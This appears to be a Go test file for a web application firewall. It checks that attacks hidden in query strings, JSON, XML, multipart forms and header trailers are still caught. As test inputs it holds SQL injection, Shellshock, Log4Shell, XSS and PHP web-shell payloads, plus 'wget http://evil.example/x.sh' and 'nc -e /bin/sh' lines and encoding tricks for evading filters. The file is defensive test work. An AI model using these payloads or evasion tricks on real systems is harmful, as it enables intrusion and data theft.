//go:build !race

// The race detector has nothing to see in one goroutine, and takes ten times as long.

package waf

import (
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"edge.svc/caddy/features/waf/bodies"
)

// Text that only some programs read as an argument is one here, and what can be read in two ways weighs as an attack by
// itself. "@" stands for the attack.
func TestAttacksThatHide(t *testing.T) {
	s := settingsOf(t, asIs)
	file := "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\npixels\r\n"
	field := "Content-Disposition: form-data; name=\"q\"\r\n\r\n"
	deep := func(inner string) string { return strings.Repeat(`{"a":`, 70) + inner + strings.Repeat("}", 70) }
	for _, c := range []struct {
		name, target, body string
		fields             []string
		// What the body must be refused for in any case, whatever weighs the attack.
		rule int
	}{
		{name: "behind a number sign", target: "/?a=1#&q=@"},
		{name: "encoded twice", target: "/?q=" + url.QueryEscape(url.QueryEscape(sqli))},
		{name: "behind a semicolon", target: "/?a=1;q=@"},
		{name: "a name without a value", target: "/?@"},
		{name: "a name of an empty object", body: `{"@":{}}`, fields: []string{json}},
		{name: "a name of an empty array", body: `[{"x":{"@":[]}}]`, fields: []string{json}},
		{name: "a name above a number in the depth", body: `{"@":` + deep("1") + `}`, fields: []string{json}},
		{name: "a name above a long one", body: `{"@":{"` + strings.Repeat("n", 2000) + `":1}}`, fields: []string{json}},
		{name: "JSON as text", body: `{"q":"@"}`, fields: []string{"Content-Type: text/plain"}},
		{name: "JSON without a type", body: ` [{"q":"@"}]`},
		{name: "several documents", body: "{\"a\":1}\n{\"q\":\"@\"}\n", fields: []string{"Content-Type: application/x-ndjson"}},
		{name: "a text around a comment", body: "<a>1' or '1'<!-- x -->='1' union <?x?>select password<![CDATA[ from users-- ]]></a>", fields: []string{"Content-Type: text/xml"}},
		{name: "an entity", body: `<!DOCTYPE a [<!ENTITY q "@">]><a>&q;</a>`, fields: []string{"Content-Type: text/xml"}},
		{name: "XML in another alphabet", body: `<?xml version="1.0" encoding="utf-7"?><a>+ADw-script+AD4-</a>`, fields: []string{"Content-Type: text/xml"}, rule: 920130},
		{name: "JSON of two bytes each", body: "{\x00\"\x00a\x00\"\x00", fields: []string{json}, rule: 920130},
		{name: "after the last border", body: file + "--b--\r\n--b\r\n" + field + "@\r\n--b--\r\n", fields: []string{multipartB}, rule: 920140},
		{name: "a border in a file", body: file[:len(file)-2] + "\n--b\n" + strings.ReplaceAll(field, "\r", "") + "@\n--b\r\n" + field + "x\r\n--b--\r\n", fields: []string{multipartB}, rule: 920140},
		{name: "an escaped quote", body: "--b\r\nContent-Disposition: form-data; name=\"a\\\"; filename=\\\"b\"\r\n\r\n@\r\n--b--\r\n", fields: []string{multipartB}, rule: 920140},
		{name: "two boundaries", body: file + "--b--\r\n", fields: []string{"Content-Type: multipart/form-data; xboundary=a; boundary=b"}, rule: 920470},
		{name: "a long boundary", body: "--" + strings.Repeat("b", 71) + "\r\n" + field + "@", fields: []string{"Content-Type: multipart/form-data; boundary=" + strings.Repeat("b", 71)}, rule: 920140},
		{name: "an encoded part", body: "--b\r\nContent-Transfer-Encoding: base64\r\n" + field + "MScgb3I=\r\n--b--\r\n", fields: []string{multipartB}, rule: 922120},
		{name: "a part in another charset", body: "--b\r\nContent-Type: text/plain; charset=utf-7\r\n" + field + "x\r\n--b--\r\n", fields: []string{multipartB}, rule: 922110},
		{name: "two types", body: "q=@", fields: []string{"Content-Type: text/plain", form}, rule: 920620},
		{name: "types in one field", body: "q=@", fields: []string{"Content-Type: text/plain, application/x-www-form-urlencoded"}, rule: 920470},
		{name: "a compressed body", body: "\x1f\x8b", fields: []string{form, "Content-Encoding: gzip"}, rule: 920450},
		{name: "a charset that nobody asked for", body: "q=1", fields: []string{"Content-Type: application/x-www-form-urlencoded; charset=utf-7"}, rule: 920480},
	} {
		method, target := "GET", "/"
		if c.target != "" {
			target = c.target
		}
		if c.body != "" {
			method = "POST"
		}
		with := func(text, encoded string) verdict {
			body := strings.ReplaceAll(c.body, "@", text)
			x := asked(method, "/", body, c.fields...)
			x.In.Target.Raw = strings.ReplaceAll(target, "@", encoded)
			_, x.In.Target.Query, _ = strings.Cut(x.In.Target.Raw, "?")
			return judge(t, s, x, body)
		}
		v := with(sqli, url.QueryEscape(sqli))
		hidden := strings.Contains(c.body+c.target, "@") && c.rule != 920470 && c.rule != 920620 || c.rule == 0
		if v.score < s.threshold || c.rule != 0 && !slices.Contains(v.rules, c.rule) || hidden && !byContent(v) {
			t.Errorf("%s: %v", c.name, v)
		}
		if strings.Contains(c.body, "@") && c.rule == 0 {
			if v := with("hello", "hello"); byContent(v) {
				t.Errorf("%s without an attack: %v", c.name, v)
			}
		}
	}
}

// byContent reports whether rules found SQL.
func byContent(v verdict) bool {
	return slices.ContainsFunc(v.rules, func(id int) bool { return id/1000 == 942 })
}

// What rules find does not change from one inspection to the next: of several values under one name, and of joined ones,
// each is inspected by every rule.
func TestValuesUnderOneNameAreInspectedEach(t *testing.T) {
	const times = 16
	s := settingsOf(t, asIs)
	long := strings.Repeat("many words ", 3*bodies.MaxJoined/10)
	attack := url.QueryEscape(sqli)
	for _, c := range []struct {
		name, target, body string
		fields             []string
	}{
		{name: "joined texts of JSON", body: `{"a":"x","b":"y","c":"z",!` + long + " " + sqli, fields: []string{json}},
		{name: "joined fields of a form", body: strings.Repeat("a=b&", bodies.MaxArguments) + url.QueryEscape(long) + "&c=" + attack, fields: []string{form}},
		{name: "fields of a form", body: "%61=x&%61=y&b=1&c=2&%61=" + attack, fields: []string{form}},
		{name: "arguments without a name", target: "/?=x&=y&b=1&c=2&=" + attack},
		{name: "joined cookies", fields: []string{"Cookie: " + strings.Repeat("a=b;", bodies.MaxArguments) + "c=" + long + ";d=" + strings.ReplaceAll(sqli, ";", "")}},
		{name: "fields of a header", fields: []string{"X-Note: a", "X-Note: b", "X-Note: ${jndi:ldap://a.b/c}"}},
	} {
		found := map[int]int{}
		for range times {
			x := asked("GET", "/", c.body, c.fields...)
			if c.target != "" {
				x.In.Target.Raw = c.target
				_, x.In.Target.Query, _ = strings.Cut(c.target, "?")
			}
			for _, id := range judge(t, s, x, c.body).rules {
				found[id]++
			}
		}
		attacks := 0
		for id, n := range found {
			if n != times {
				t.Errorf("%s: rule %d matched %d times of %d", c.name, id, n, times)
			}
			if id/1000 == 942 || id/1000 == 944 {
				attacks++
			}
		}
		if attacks == 0 {
			t.Errorf("%s: no rule finds the attack: %v", c.name, found)
		}
	}
}

// Fields after a body are read like those before it.
func TestAttacksAfterABody(t *testing.T) {
	s := settingsOf(t, asIs)
	for attack, found := range map[string]bool{"hello": false, "() { :;}; /bin/cat /etc/passwd": true} {
		x := asked("POST", "/", "x", "Content-Type: text/plain")
		x.In.Trailer = http.Header{"X-Note": {attack}}
		if v := judge(t, s, x, "hello"); (v.score >= s.threshold) != found {
			t.Errorf("%s: %v", attack, v)
		}
	}
}

// Forms without fields, and files that are like what ends them, are no attack.
func TestMultipartThatIsRight(t *testing.T) {
	s := settingsOf(t, asIs)
	for _, body := range []string{
		"--b--\r\n",
		"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a b.png\"\r\n\r\n--a--\r\n--b--\r\n\r\n",
		"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"报告.txt\"\r\nContent-Type: text/plain\r\n\r\n" +
			strings.Repeat("--\r\n", bodies.MaxTail) + "\r\n--b--",
	} {
		if v := judge(t, s, asked("POST", "/", "x", multipartB), body); v.score > 0 {
			t.Errorf("%.60q: %v", body, v)
		}
	}
	// Wherever it is read in pieces.
	for n := range bodies.MaxTail + 100 {
		if n%37 != 0 {
			continue
		}
		body := "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\n\r\n" + strings.Repeat("x", n) + "\r\n--b--\r\n"
		if v := judge(t, s, asked("POST", "/", "x", multipartB), body); v.score > 0 {
			t.Errorf("%d bytes: %v", n, v)
		}
	}
}

// Ordinary text is no attack where it is joined as lines, whatever its first words are the names of; and a command is one
// there as it is alone.
func TestJoinedTextIsLikeText(t *testing.T) {
	s := settingsOf(t, asIs)
	var b strings.Builder
	for range 60 {
		for _, word := range strings.Fields("find look sort head split wall make install echo service kill export join screen touch nice print view mail sleep id who set") {
			b.WriteString(`{"id":7,"who":"` + word + ` the best of all","` + word + `":"` + word + `"},`)
		}
	}
	text := b.String()
	for body, attack := range map[string]bool{
		"[" + text + `{"id":7}]`:                                        false,
		"[" + text + `"last"]`:                                          false,
		"[" + text + `"wget http://evil.example/x.sh"]`:                 true,
		"[" + text + `"nc -e /bin/sh 1.2.3.4",` + text + `"last"]`:      true,
		"[" + text + `"; cat /etc/passwd"]`:                             true,
		"[" + text + `"1 union select password from users"]`:            true,
		"[" + text + `"<script>alert(1)</script>"]`:                     true,
		"[" + text + `"${jndi:ldap://a.b/c}"]`:                          true,
		"[" + text + `"<?php system($_GET[1]); ?>",` + text + `"last"]`: true,
	} {
		if v := judge(t, s, asked("POST", "/", body, json), body); (v.score >= s.threshold) != attack {
			t.Errorf("%q: %v", body[len(body)-min(len(body), 60):], v)
		}
	}
}
